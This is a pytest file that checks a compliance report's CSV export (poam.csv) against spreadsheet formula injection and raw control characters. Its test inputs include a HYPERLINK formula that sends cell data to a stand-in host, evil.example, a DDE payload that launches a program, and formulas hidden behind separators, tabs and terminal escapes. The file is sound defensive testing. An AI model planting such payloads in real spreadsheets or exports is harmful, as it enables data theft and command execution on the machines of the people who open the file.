"""poam.csv opens as text in any spreadsheet, whatever its list separator.

Waiver reasons, owners, milestones and catalog titles come from the repository's config. A cell
that starts with = + - @ (or TAB / CR before one) is a formula in Excel and LibreOffice; in a
locale whose separator is `;`, the unquoted `a;=1+1` is two cells, the second a formula. Every
column gets a hostile value; the file is read as a `,` reader and as a naive `;` reader would.
"""

from __future__ import annotations

import csv
import io
from types import SimpleNamespace
from typing import Any

import pytest

from baseline.report.cisa_form import FEDRAMP_COLUMNS, POAM_COLUMNS, poam_csv
from baseline.report.form_view import TaskRef
from baseline.report.poam_view import PoamEntry

from .doc_table import Observations, Row

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "ok;=1+1",
    "ok,=1+1",
    "ok; @SUM(1)",
    "ok\n=1+1",
    "x\x1b]0;title\x07\u202e\u009b",
)
RAW = ("\t", "\r", "\x1b", "\x07", "\u202e", "\u009b")
_STARTS = ("=", "+", "-", "@")


def _view(value: str) -> Any:
    task = TaskRef(
        f"PW.1.1{value}", "a", f"title{value}", value, automated=True, config_claims=(value,)
    )
    entry = PoamEntry(
        id=value, kind="waiver", name=value, description=value, detector=value,
        source_id=value, tasks=(task,), items=(value,), plan=value, has_plan=True, owner=value,
        approver=value, scheduled=value, milestones=((value, value),), status=value,
        detected=value, risk=value, reason=value, remediation=(value,), findings=1,
    )  # fmt: skip
    return SimpleNamespace(poam=(entry,), target=value, commit=value)


def _cells_as_read(text: str) -> list[str]:
    """Every cell a `,` reader and a `;`-locale reader (which ignores `,` and quotes) would see."""
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    for line in text.splitlines():
        cells += [piece.lstrip(' "') for piece in line.split(";")]
    return cells


@pytest.mark.parametrize("value", FORMULAS, ids=range(len(FORMULAS)))
def test_no_cell_is_a_formula(value: str) -> None:
    text = poam_csv(_view(value))
    for char in RAW:
        assert char not in text, (char, text)
    assert text.count("\n") == 2  # the header and one row: a newline in a value stays inside
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows[1]) == len(rows[0]) == len(POAM_COLUMNS)
    # Every column we fill carries the hostile value (the template's others stay blank).
    blank = {"Resources Required", "Milestone Changes", "Vendor Dependency",
             "Last Vendor Check-in Date", "Vendor Dependent Product Name", "Adjusted Risk Rating",
             "Risk Adjustment", "False Positive", "Operational Requirement", "Auto-Approve"}  # fmt: skip
    assert blank < set(FEDRAMP_COLUMNS)
    filled = [cell for name, cell in zip(POAM_COLUMNS, rows[1], strict=True) if name not in blank]
    assert all(cell for cell in filled), rows[1]
    for cell in _cells_as_read(text):
        assert not cell.lstrip().startswith(_STARTS), (value, cell)


def _csv_row() -> Row:
    # (how the table names the input, the input)
    samples = (("@SUM(1+1)", "@SUM(1+1)"), ("ok;=1+1", "ok;=1+1"), ("TAB =1+1", "\t=1+1"),
               ("x ESC ]0;title BEL U+202E", "x\x1b]0;title\x07\u202e"))  # fmt: skip
    written = [list(csv.reader(io.StringIO(poam_csv(_view(v)))))[1][0] for _, v in samples]
    for cell in written:
        assert not any(char in cell for char in RAW), cell
    pairs = "; ".join(f"{n} as `{w}`" for (n, _), w in zip(samples, written, strict=True))
    return Row(
        "Reports and terminal output",
        "csv-formulas",
        "a formula (= + - @, after TAB or CR, or after a `;` or `,` for a `;`-locale reader) and "
        "raw control characters in every poam.csv column",
        f"written as text: {pairs}",
    )


def all_rows(obs: Observations) -> list[Row]:
    """The rows of this file (for the docs table)."""
    return [obs.get("Reports and terminal output", "csv-formulas", _csv_row)]


def test_csv_row(observations: Observations) -> None:
    observations.get("Reports and terminal output", "csv-formulas", _csv_row)
